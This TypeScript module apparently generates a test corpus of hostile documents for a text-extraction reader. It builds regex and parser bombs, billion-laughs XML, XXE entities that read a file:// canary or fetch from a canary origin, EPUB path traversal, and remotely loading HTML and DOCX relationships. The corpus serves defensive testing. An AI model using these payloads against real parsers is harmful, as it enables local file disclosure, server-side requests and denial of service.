/** Files made to hold up, mislead or rob whoever reads them. None needs more than some megabytes to make. */
import { strToU8, zipSync } from 'fflate';

export interface HostileFile {
  name: string;
  bytes: Uint8Array;
}

/** Where a reader that can be misled would go: a server that counts, and a file whose words must never be seen. */
export interface CanaryServer {
  origin: string;
  canary: string;
}

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';

function docx(body: string, doctype = '', relationships = ''): Uint8Array {
  return zipSync({
    '[Content_Types].xml': strToU8(
      `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${MAIN}"/></Types>`,
    ),
    'word/document.xml': strToU8(
      `<?xml version="1.0"?>${doctype}<w:document xmlns:w="${W}" xmlns:r="${REL}"><w:body>${body}</w:body></w:document>`,
    ),
    'word/_rels/document.xml.rels': strToU8(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`,
    ),
  });
}

const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

function epub(rootfile: string, opf: string): Uint8Array {
  return zipSync({
    mimetype: strToU8('application/epub+zip'),
    'META-INF/container.xml': strToU8(
      `<container><rootfiles><rootfile full-path="${rootfile}" media-type="application/oebps-package+xml"/></rootfiles></container>`,
    ),
    'OEBPS/content.opf': strToU8(opf),
    'OEBPS/page.xhtml': strToU8('<html><body><h1>كتاب</h1><p>نص الكتاب</p></body></html>'),
  });
}

/** Bombs for whatever looks at text: long lines of one kind, over which a careless expression goes back and forth. */
function textBombs(): HostileFile[] {
  const lines: [string, string][] = [
    ['one-letter.txt', 'ا'.repeat(3_000_000)],
    ['letters-apart.txt', 'ا ل ع '.repeat(400_000)],
    ['tatweel.txt', `ب${'ـ'.repeat(2_000_000)}ب`],
    ['brackets.txt', `ةملك ${'('.repeat(500_000)}${'ةملك ىلع ةسردم ىلإ '.repeat(20_000)}`],
    ['dates.txt', '4202/50/21/'.repeat(200_000)],
    ['question-marks.txt', '?? '.repeat(700_000)],
    ['mojibake.txt', 'Ø§Ù„Ø¹Ø±Ø¨ÙŠØ©'.repeat(120_000)],
    ['mojibake-of-mojibake.txt', 'Ã˜Â§Ã™â€ž'.repeat(200_000)],
    ['mojibake-cut.txt', `${'Ø§Ù„Ø¹'.repeat(3)} ${'Ø'.repeat(1_000_000)}`],
    ['marks.txt', `ا${'\u064b'.repeat(1_500_000)}`],
  ];
  return lines.map(([name, text]) => ({ name, bytes: strToU8(`بداية النص\n${text}\n`) }));
}

function pageBombs(parts: number): HostileFile[] {
  const hidden = '<div style="display:none">';
  const rules = Array.from({ length: 30_000 }, (_, index) => `.a.b${index % 50}{display:none}`).join('');
  const classes = Array.from({ length: 50 }, (_, index) => `b${index}`).join(' ');
  const pages: [string, string][] = [
    ['hidden-deep.html', `<p>نص ظاهر كله</p>${hidden.repeat(parts)}سر`],
    ['hidden-wide.html', `<p>نص ظاهر كله</p>${`${hidden}سر</div>`.repeat(parts)}`],
    [
      'many-rules.html',
      `<style>${rules}</style><p>نص ظاهر كله</p>${`<p class="a ${classes}">سر</p>`.repeat(5_000)}`,
    ],
    ['open-styles.html', `<p>نص ظاهر كله</p>${'<style>'.repeat(100_000)}`],
    ['open-comments.html', `<p>نص ظاهر كله</p>${'<!--<style>'.repeat(100_000)}`],
    ['long-style.html', `<p style="${'color:red;'.repeat(200_000)}">نص ظاهر كله</p>`],
  ];
  return pages.map(([name, body]) => ({
    name,
    bytes: strToU8(`<!doctype html><body><h1>عنوان</h1>${body}`),
  }));
}

function temptations({ origin, canary }: CanaryServer): HostileFile[] {
  const outside = `file://${canary}`;
  const page = `<!doctype html><html><head><link rel=stylesheet href="${origin}/a.css"><style>@import url("${origin}/b.css"); body{background:url(${origin}/c.png)}</style><meta http-equiv=refresh content="0;url=${origin}/d"><base href="${origin}/"><script src="${origin}/e.js"></script></head><body><h1>عنوان</h1><p>نص الصفحة</p><img src="${origin}/f.png" srcset="${origin}/g.png 2x"><iframe src="${outside}"></iframe><object data="${origin}/h"></object><video src="${origin}/i" poster="${origin}/j"></video><embed src="${outside}"></body></html>`;
  const external = (type: string, target: string, id: number): string =>
    `<Relationship Id="rId${id}" Type="${REL}/${type}" Target="${target}" TargetMode="External"/>`;
  const relationships = ['image', 'attachedTemplate', 'hyperlink', 'oleObject', 'frame']
    .flatMap((type, index) => [
      external(type, outside, index * 2),
      external(type, `${origin}/${type}`, index * 2 + 1),
    ])
    .join('');
  const entities = `<!DOCTYPE w:document [<!ENTITY a SYSTEM "${outside}"><!ENTITY b SYSTEM "${origin}/xxe"><!ENTITY % p SYSTEM "${origin}/dtd">%p;]>`;
  const opf = (href: string): string =>
    `<!DOCTYPE package SYSTEM "${origin}/opf.dtd"><package><metadata><dc:title>كتاب</dc:title></metadata><manifest><item id="a" href="${href}" media-type="application/xhtml+xml"/><item id="b" href="page.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>`;
  const up = '../'.repeat(12);
  return [
    { name: 'fetching.html', bytes: strToU8(page) },
    {
      name: 'fetching.md',
      bytes: strToU8(`# عنوان\n\nنص ![صورة](${origin}/k.png) <img src="${origin}/l.png">\n`),
    },
    { name: 'relationships.docx', bytes: docx(paragraph('نص المستند'), '', relationships) },
    { name: 'entities.docx', bytes: docx(paragraph('قبل &a; &b; بعد'), entities) },
    { name: 'traversal.epub', bytes: epub('OEBPS/content.opf', opf(`${up}${canary.slice(1)}`)) },
    {
      name: 'traversal-encoded.epub',
      bytes: epub('OEBPS/content.opf', opf(`${up.replaceAll('/', '%2f')}${canary.slice(1)}`)),
    },
    { name: 'fetching.epub', bytes: epub('OEBPS/content.opf', opf(`${origin}/page.xhtml`)) },
    { name: 'outside.epub', bytes: epub(`${up}${canary.slice(1)}`, opf('page.xhtml')) },
  ];
}

const SPREADSHEET = 'urn:schemas-microsoft-com:office:spreadsheet';

/** Mails and saved pages: nesting, parts, encodings and borders that are not as they say. */
function mailBombs(parts: number): HostileFile[] {
  const head = (type: string, encoding = '8bit'): string =>
    `Content-Type: ${type}\r\nContent-Transfer-Encoding: ${encoding}\r\n\r\n`;
  const first = 'Subject: bomb\r\nFrom: a@example.org\r\nMIME-Version: 1.0\r\n';
  const nested = (depth: number, open: (level: number) => string): string =>
    `${first}${Array.from({ length: depth }, (_, level) => open(level)).join('')}text`;
  const multipart = (level: number): string =>
    `${head(`multipart/mixed; boundary=b${level}`)}--b${level}\r\n`;
  const many = `${'--b\r\nContent-Type: text/plain\r\n\r\nx\r\n'.repeat(parts / 10)}--b--\r\n`;
  const html = `<p>${'x'.repeat(50)}</p>`;
  const messages: [string, string][] = [
    ['nested-parts.eml', nested(5_000, multipart)],
    ['nested-messages.eml', nested(2_000, () => head('message/rfc822'))],
    ['many-parts.eml', `${first}${head('multipart/mixed; boundary=b')}${many}`],
    [
      'many-headers.eml',
      `${first}Content-Type: text/plain\r\n${'X-Header: a long value of a header\r\n'.repeat(parts)}\r\ntext of the mail`,
    ],
    ['bad-base64.eml', `${first}${head('text/plain; charset=utf-8', 'base64')}${'=?!*&^%$'.repeat(100_000)}`],
    [
      'bad-quoted.eml',
      `${first}${head('text/html; charset=utf-8', 'quoted-printable')}${'=G==4='.repeat(200_000)}`,
    ],
    ['no-border.eml', `${first}${head('multipart/mixed; boundary=none')}text that no border begins`],
    ['empty-border.eml', `${first}${head('multipart/mixed; boundary=""')}--\r\n\r\ntext\r\n----\r\n`],
    [
      'open-words.eml',
      `${first}Comments: ${'=?utf-8?B?'.repeat(50_000)}\r\n${head('text/plain')}text of the mail`,
    ],
    ['no-charset.eml', `${first}${head('text/html; charset=no-such')}${html}`],
    ['nested.mht', nested(5_000, multipart)],
    [
      'many-parts.mht',
      `${first}${head('multipart/related; boundary=b')}--b\r\n${head('text/html')}${html}\r\n${many}`,
    ],
    ['deep-page.mht', `${first}${head('text/html; charset=utf-8')}${'<div>'.repeat(parts)}text`],
  ];
  return messages.map(([name, text]) => ({ name, bytes: strToU8(text) }));
}

/** Workbooks of Excel 2003. */
function workbookBombs({ origin, canary }: CanaryServer, parts: number): HostileFile[] {
  const book = (rows: string, doctype = '', end = '</Table></Worksheet></Workbook>'): string =>
    `<?xml version="1.0"?>${doctype}<?mso-application progid="Excel.Sheet"?><Workbook xmlns="${SPREADSHEET}" xmlns:ss="${SPREADSHEET}"><Worksheet ss:Name="a"><Table>${rows}${end}`;
  const cell = (text: string, attributes = ''): string =>
    `<Cell ${attributes}><Data ss:Type="String">${text}</Data></Cell>`;
  const laughs = Array.from(
    { length: 9 },
    (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
  ).join('');
  const outside = `<!ENTITY f SYSTEM "file://${canary}"><!ENTITY g SYSTEM "${origin}/excel">`;
  const books: [string, string][] = [
    ['laughs.xml', book(`<Row>${cell('&l9; text')}</Row>`, `<!DOCTYPE a [<!ENTITY l0 "lol">${laughs}]>`)],
    ['outside.xml', book(`<Row>${cell('before &f; &g; after')}</Row>`, `<!DOCTYPE a [${outside}]>`)],
    [
      'far-cells.xml',
      book(`<Row ss:Index="1048576">${cell('far away', 'ss:Index="16384"')}</Row>`.repeat(1_000)),
    ],
    [
      'wide-merges.xml',
      book(`<Row>${cell('merged', 'ss:MergeAcross="16383" ss:MergeDown="1048575"')}</Row>`.repeat(2_000)),
    ],
    ['deep.xml', book('<Row>'.repeat(parts))],
    [
      'many-sheets.xml',
      book(
        '',
        '',
        `</Table></Worksheet>${'<Worksheet ss:Name="b"><Table><Row/></Table></Worksheet>'.repeat(parts / 5)}</Workbook>`,
      ),
    ],
    ['cut.xml', book(`<Row>${cell('a text that is cut off').slice(0, -9)}`, '', '')],
  ];
  return books.map(([name, text]) => ({ name, bytes: strToU8(text) }));
}

/** All of them; `few` keeps to those that lead a reader astray and one bomb a format, of fewer parts: readers have 18 s. */
export function makeHostile(bait: CanaryServer, extent: 'all' | 'few' = 'all'): HostileFile[] {
  const files = makeAll(bait, extent === 'all' ? 100_000 : 25_000);
  return extent === 'all' ? files : files.filter(({ name }) => QUICK_SET.has(name));
}

const QUICK_SET = new Set([
  'fetching.html',
  'relationships.docx',
  'entities.docx',
  'traversal.epub',
  'traversal-encoded.epub',
  'fetching.epub',
  'outside.epub',
  'hidden-deep.html',
  'hidden-wide.html',
  'brackets.txt',
  'groups.rtf',
  'vanishing.docx',
  'nested-parts.eml',
  'many-parts.mht',
  'outside.xml',
]);

function makeAll(bait: CanaryServer, parts: number): HostileFile[] {
  return [
    ...textBombs(),
    ...pageBombs(parts),
    ...temptations(bait),
    ...mailBombs(parts),
    ...workbookBombs(bait, parts),
    { name: 'groups.rtf', bytes: strToU8(`{\\rtf1\\ansi ${'{\\b '.repeat(300_000)}x`) },
    {
      name: 'hidden-groups.rtf',
      bytes: strToU8(`{\\rtf1\\ansi نص ظاهر كله ${'{\\v a}'.repeat(100_000)} end\\par}`),
    },
    { name: 'bin-beyond.rtf', bytes: strToU8('{\\rtf1\\ansi {\\v a}text\\bin2147483647 more\\par}') },
    { name: 'columns.csv', bytes: strToU8(`اسم,${'خلية,'.repeat(1_000_000)}\nقيمة,1\n`) },
    { name: 'quotes.csv', bytes: strToU8(`اسم,عمر\n"${'"",'.repeat(500_000)}\n`) },
    {
      name: 'vanishing.docx',
      bytes: docx(
        `${'<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>سر</w:t></w:r></w:p>'.repeat(parts / 5)}${paragraph('نص ظاهر كله')}`,
      ),
    },
  ];
}
